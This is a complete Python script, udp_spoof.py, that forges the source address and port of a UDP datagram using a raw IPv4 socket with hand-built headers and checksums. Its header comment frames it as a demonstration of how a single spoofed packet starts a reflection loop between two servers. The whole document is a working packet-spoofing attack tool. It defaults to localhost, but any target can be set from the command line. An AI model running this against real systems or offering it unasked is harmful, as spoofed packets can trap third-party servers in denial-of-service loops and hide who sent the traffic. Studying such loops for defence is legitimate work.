# udp_spoof.py - sends one UDP datagram with a forged source address and port (a raw IPv4 socket; needs root).
# Run: python3 udp_spoof.py --source-port S --target-port T [--source 127.0.0.1] [--target 127.0.0.1] [--payload TEXT]
# The datagram reaches T as if S had sent it: how one packet starts a reflection loop between two servers.
# Prints "sent N bytes" and exits 0.
import argparse
import socket
import struct

parser = argparse.ArgumentParser(description="Send one spoofed UDP datagram over IPv4.")
parser.add_argument("--source", default="127.0.0.1")
parser.add_argument("--source-port", type=int, required=True)
parser.add_argument("--target", default="127.0.0.1")
parser.add_argument("--target-port", type=int, required=True)
parser.add_argument("--payload", default="spoofed")
args = parser.parse_args()


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


payload = args.payload.encode()
source = socket.inet_aton(args.source)
target = socket.inet_aton(args.target)
udp_length = 8 + len(payload)
pseudo_header = source + target + struct.pack("!BBH", 0, socket.IPPROTO_UDP, udp_length)
udp_header = struct.pack("!HHHH", args.source_port, args.target_port, udp_length, 0)
udp_checksum = checksum(pseudo_header + udp_header + payload) or 0xFFFF
udp_header = struct.pack("!HHHH", args.source_port, args.target_port, udp_length, udp_checksum)
total_length = 20 + udp_length
ip_header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, total_length, 0, 0, 64, socket.IPPROTO_UDP, 0, source, target)
ip_header = ip_header[:10] + struct.pack("!H", checksum(ip_header)) + ip_header[12:]

# IPPROTO_RAW implies IP_HDRINCL: the kernel sends the header above as it is.
with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
    raw.sendto(ip_header + udp_header + payload, (args.target, 0))
print("sent", len(payload), "bytes", flush=True)
